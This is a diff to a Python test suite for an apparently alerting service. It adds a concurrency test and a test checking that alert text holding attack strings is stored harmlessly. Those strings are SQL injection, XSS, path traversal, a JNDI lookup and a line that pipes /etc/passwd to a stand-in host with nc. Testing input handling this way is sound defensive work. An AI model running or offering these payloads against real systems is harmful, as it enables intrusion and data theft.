@@ -6,6 +6,7 @@ import re
 import shutil
 import subprocess
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from datetime import timedelta
 from pathlib import Path
 from random import Random
@@ -476,6 +477,40 @@ def test_what_prometheus_and_the_portal_both_say_is_one_row(site: Site, still: S
         "PortalOtherScraperAway",
         "Stuck",
     ]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "1 UNION SELECT password FROM users -- ",
+        "<script>alert(1)</script>",
+        "../../../etc/passwd",
+        "; cat /etc/passwd | nc evil 1",
+        "${jndi:ldap://x}",
+        'rate(http_requests_total{path=~"/a.*|/b"}[5m]) > 5',
+    ],
+)
+@pytest.mark.usefixtures("still")
+def test_what_an_alert_quotes_is_no_attack(site: Site, text: str):
+    headers = site.bearer(Scope.ALERTS_PUSH) | {"User-Agent": "Alertmanager/0.27.0"}
+    quoted = alert("firing", "2030-06-03T11:50:00Z", query=text)
+    quoted["annotations"] = {"summary": text, "description": text}
+    quoted["generatorURL"] = f"http://prometheus/graph?g0.expr={text}"
+    assert push(site, quoted, headers=headers)["opened"] == 1
+
+
+@pytest.mark.usefixtures("still")
+def test_a_pair_of_senders_at_once_opens_one_episode(either: Site):
+    headers = either.bearer(Scope.ALERTS_PUSH)
+    many = [{**FIRST, "fingerprint": f"{number:08x}"} for number in range(20)]
+
+    def send(_: int) -> dict:
+        return push(either, *many, headers=headers)
+
+    with ThreadPoolExecutor(4) as pool:
+        told = list(pool.map(send, range(4)))
+    assert sum(one["opened"] for one in told) == 20
+    assert len(episodes(either)) == 20
 
 
 def test_the_expiry_can_be_off(build: Build, still: StandingClock):
